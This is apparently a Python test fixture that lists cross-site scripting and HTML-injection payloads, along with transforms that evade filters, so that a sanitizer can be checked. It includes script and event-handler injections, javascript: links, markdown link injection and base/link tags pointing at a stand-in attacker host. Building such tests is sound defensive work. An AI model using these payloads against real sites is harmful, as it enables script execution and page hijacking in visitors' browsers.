"""What somebody types who wants to run a script in the browser of whoever reads it, or to bring in a page of their own.

Each would raise `window.ran`, or leave an element that carries `data-evil`.
"""

RUN = "window.ran=1"

PLAIN = [
    f"<script data-evil>{RUN}</script>",
    f"<img data-evil src=x onerror={RUN}>",
    f"<svg data-evil onload={RUN}>",
    f'"><b data-evil onmouseover={RUN}>',
    f"'><b data-evil onclick={RUN}>",
    f'" autofocus onfocus={RUN} data-evil="',
    f"' autofocus onfocus={RUN} data-evil='",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    "</option></select><b data-evil>",
    f"--><script>{RUN}</script>",
    "]]><b data-evil>",
    f"<a data-evil href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    f'[x](https://x" onclick={RUN} data-evil=")',
    f"javascript:{RUN}",
    "<iframe data-evil src=/></iframe>",
    "<base data-evil href=//evil.example/>",
    f"<details data-evil open ontoggle={RUN}>",
    "<p data-evil hx-get=/ hx-trigger=load>",
    f"{{{{{RUN}}}}}<b data-evil>",
    f"\\u003cscript\\u003e{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<math data-evil><mi xlink:href=javascript:{RUN}>x",
    f"<form data-evil action=javascript:{RUN}><button>x",
    "<link data-evil rel=stylesheet href=//evil.example/x.css>",
    "<meta data-evil http-equiv=refresh content=0>",
]

# The same, as filters are gone round: other letters, breaks inside, doubled, half encoded, unclosed.
WAYS = [
    str,
    str.upper,
    lambda one: one.replace("script", "ScRiPt").replace("onerror", "OnErRoR"),
    lambda one: one.replace("<", "<\n"),
    lambda one: one.replace("<script", "<scr<script>ipt"),
    lambda one: one.replace(" ", "/"),
    lambda one: one.replace(">", ""),
    lambda one: one.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda one: f"x\u0000{one}".replace("\u0000", "\u200b"),
    lambda one: one * 2,
]

ALL = list(dict.fromkeys(way(one) for way in WAYS for one in PLAIN))
